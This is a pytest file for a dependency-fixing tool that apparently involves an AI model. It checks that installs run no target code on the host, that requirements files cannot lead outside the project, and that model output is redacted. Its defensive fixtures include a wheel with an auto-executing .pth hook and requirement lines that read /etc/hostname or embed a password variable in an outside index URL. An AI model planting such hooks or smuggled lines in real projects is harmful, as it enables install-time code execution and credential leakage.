"""Holes that a review found, each shown closed, and open where the safeguard is removed."""

import io
import os
import zipfile
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from fallback_audit.vocabulary import EscalationReason, FailureKind, GateStatus
from fallback_plugins.messages_api.scripted import ScriptedModel
from fallback_plugins.pypi.gates import build_gates
from fallback_plugins.pypi.installing import environment
from fallback_plugins.pypi.installing.environment import Environment
from fallback_plugins.pypi.manifests.pyproject import harmless
from fallback_tier.errors import PatchError
from fallback_tier.fix_result import Escalated, RefusedFix, Verified
from fallback_tier.gate_ports import GateContext
from fallback_tier.gates.trees.worktrees import CheckoutWorktree
from fallback_tier.handover import working_tree
from fallback_tier.sandbox.clients import SubprocessClients
from tests.fakes.gates import RuleGate
from tests.fakes.repository import git
from tests.fixtures.fallback_tier_callable import OTHER_PLAN, PLAN
from tests.integration.gate_setup import advisory, needs_sandbox, patched
from tests.integration.test_gate_runner import Bench
from tests.kinds import OfKind


@pytest.fixture
def bench(tmp_path: Path) -> Bench:
    return Bench(tmp_path)


# --- Nothing of a target runs outside the sandbox -------------------------------------------------

HOSTILE_UV = """
[project]
name = "app"
version = "1"
dependencies = ["innocent"]

[tool.uv]
compile-bytecode = true
cache-dir = "/nowhere"
no-index = true
find-links = ["wheels"]

[tool.uv.pip]
target = "/nowhere"
"""


def test_of_uvs_settings_only_what_is_resolved_is_kept() -> None:
    text = HOSTILE_UV + '\n[tool.uv.sources]\ninnocent = { index = "corp" }\n'
    kept = harmless("pyproject.toml", text)
    for key in ("compile-bytecode", "cache-dir", "target", "nowhere"):
        assert key not in kept
    assert "corp" in kept


def wheel_with_hook(folder: Path, witness: Path) -> None:
    """A wheel whose .pth file leaves a trace wherever a Python starts with it."""
    folder.mkdir(parents=True)
    info = "innocent-1.0.dist-info"
    content = {
        "innocent.pth": f"import os; open({str(witness)!r}, 'a').close()\n",
        "innocent.py": "",
        f"{info}/METADATA": "Metadata-Version: 2.1\nName: innocent\nVersion: 1.0\n",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = "".join(f"{name},,\n" for name in [*content, f"{info}/RECORD"])
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as wheel:
        for name, text in (content | {f"{info}/RECORD": record}).items():
            wheel.writestr(name, text)
    (folder / "innocent-1.0-py3-none-any.whl").write_bytes(data.getvalue())


@pytest.mark.sandbox
@pytest.mark.parametrize("safeguard", [True, False])
def test_installing_starts_no_python_of_the_target(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, safeguard: bool
) -> None:
    """uv's bytecode compiler starts the environment's Python, which runs every .pth file in it."""
    needs_sandbox()
    witness = tmp_path / "ran-on-the-host"
    wheel_with_hook(tmp_path / "wheels", witness)
    for name, value in {
        "UV_COMPILE_BYTECODE": "1",
        "UV_DEFAULT_INDEX": (tmp_path / "no-index").as_uri(),
        "UV_FIND_LINKS": str(tmp_path / "wheels"),
    }.items():
        monkeypatch.setenv(name, value)
    if not safeguard:
        monkeypatch.setattr(environment, "_NEVER_BUILT", ("--no-build", "--compile-bytecode"))
    files = {"requirements.txt": "innocent==1.0\n", "app.py": "x = 1\n"}
    with patched(
        tmp_path / "case", files, {"app.py": "x = 2\n"}, about=advisory("innocent", "PyPI")
    ) as case:
        clients = SubprocessClients(dict(os.environ))
        verdict = case.with_(clients=clients).judge(build_gates())["resolves"]
    assert verdict.status is GateStatus.PASSED, verdict.log
    assert witness.exists() is not safeguard


@pytest.mark.parametrize(
    "line",
    [
        "-r /etc/hostname",
        "-r../outside.txt",
        "--requirement=../../outside.txt",
        "-c /etc/hostname",
        "-e /opt/project",
        "--find-links /opt/wheels",
        "--index-url http://host.invalid/${UV_INDEX_CORP_PASSWORD}/simple",
    ],
)
def test_requirements_lead_uv_nowhere_else(tmp_path: Path, line: str) -> None:
    files = {"requirements.txt": f"{line}\n", "app.py": "x = 1\n"}
    with patched(
        tmp_path, files, {"app.py": "x = 2\n"}, about=advisory("innocent", "PyPI")
    ) as case:
        project = Environment(case.context, case.context.repo, ".")
        message = project.install().in_full
    assert "requirements.txt, line 1 leads out" in message
    assert "hostname" not in message.replace(line, "")


# --- The proof is of the patch that is delivered --------------------------------------------------


@pytest.mark.parametrize("safeguard", [True, False])
def test_a_gates_command_can_not_rewrite_what_the_next_gate_reads(
    bench: Bench, monkeypatch: pytest.MonkeyPatch, safeguard: bool
) -> None:
    def rewrite(context: GateContext) -> bool:
        (context.worktree.tree.layers[0] / "app.py").write_text("safe = True\n")
        return True

    if not safeguard:
        monkeypatch.setattr(CheckoutWorktree, "restore", lambda _self: None)
    gates = [
        RuleGate(rewrite, name="resolves"),
        RuleGate(lambda c: "safe = True" in c.worktree.tree.locate("app.py").read_text()),
    ]
    result = bench.fix([PLAN, OTHER_PLAN], gates)
    assert isinstance(result, Verified) is not safeguard


def test_a_delivery_that_fails_half_way_puts_the_tree_back(
    bench: Bench, monkeypatch: pytest.MonkeyPatch
) -> None:
    result = bench.fix([PLAN], [RuleGate(lambda _c: True)])
    assert isinstance(result, Verified)

    class DiskFull(SubprocessClients):
        """git's apply writes half a file, then the disk is full."""

        def run(self, tool: str, args: Any, **options: Any) -> Any:
            if args[0] != "apply":
                return super().run(tool, args, **options)
            (options["cwd"] / "app.py").write_text("half a fi")
            return SimpleNamespace(ok=False, output="error: unable to write file app.py")

    from fallback_tier.repo import RepoContext

    repo = RepoContext(
        root=bench.repo_root,
        base_commit=bench.commit,
        tracked_files=("app.py", "deps.txt"),
        manifests=(),
        fix_id="f",
        gate_transition_id="g",
    )
    with pytest.raises(PatchError, check=OfKind("not_put")):
        working_tree.put_on_working_tree(result.application, repo, DiskFull())
    assert git(bench.repo_root, "status", "--porcelain") == ""

    monkeypatch.setattr(working_tree, "put_back", lambda *_: "")
    with pytest.raises(PatchError):
        working_tree.put_on_working_tree(result.application, repo, DiskFull())
    assert "app.py" in git(bench.repo_root, "status", "--porcelain")


# --- What a model says is cleaned before it is kept -----------------------------------------------


def test_a_models_refusal_is_cleaned_and_redacted(bench: Bench) -> None:
    # In parts, so that no scanner of this repository takes it for a real key.
    key = "sk-ant-" + "api03-" + "A1b2" * 20
    result = bench.fix([{"action": "refuse", "reason": f"\x1b[31mno\x1b]0;t\x07 {key}"}], [])
    assert isinstance(result, RefusedFix)
    record = "".join(stored.payload.model_dump_json() for stored in bench.audit.stored)
    for text in (result.sentence, record):
        assert key not in text
        assert "\x1b" not in text
        assert "\\u001b" not in text


def test_what_is_no_character_is_no_crash(bench: Bench) -> None:
    result = bench.fix(["\ud800 nonsense"] * 3 + [PLAN], [RuleGate(lambda _c: True)])
    assert isinstance(result, Verified)
    assert result.prior_attempts[0].failure_kind is FailureKind.PLAN_INVALID


# --- Interruptions leave evidence -----------------------------------------------------------------


def test_an_interrupt_inside_an_attempt_leaves_evidence(bench: Bench) -> None:
    seen = bench.audit.append

    def append(scope: Any, event: Any) -> Any:
        stored = seen(scope, event)
        if event.kind == "ModelCalled":
            raise KeyboardInterrupt
        return stored

    bench.audit.append = append  # type: ignore[method-assign]
    with pytest.raises(KeyboardInterrupt):
        bench.fix([PLAN], [RuleGate(lambda _c: True)])
    assert bench.audit.kinds[-1] == "ConsumerLeft"


def test_an_observer_that_fails_leaves_evidence_at_once(tmp_path: Path) -> None:
    """The stream is closed before the store is, not when memory is tidied up."""

    class Watching(Bench):
        def seen(self, event: Any) -> None:
            if getattr(event, "kind", "") == "ModelCalled":
                raise RuntimeError("the screen is gone")

    bench = Watching(tmp_path)
    with pytest.raises(RuntimeError) as caught:
        bench.fix([PLAN], [RuleGate(lambda _c: True)])
    assert bench.audit.kinds[-1] == "ConsumerLeft"
    del caught


def test_a_script_at_its_end_is_a_question(bench: Bench) -> None:
    result = bench.fix([], [RuleGate(lambda _c: True)])
    assert isinstance(result, Escalated)
    assert result.reason is EscalationReason.MODEL_UNAVAILABLE
    assert ScriptedModel(()).requests == ()
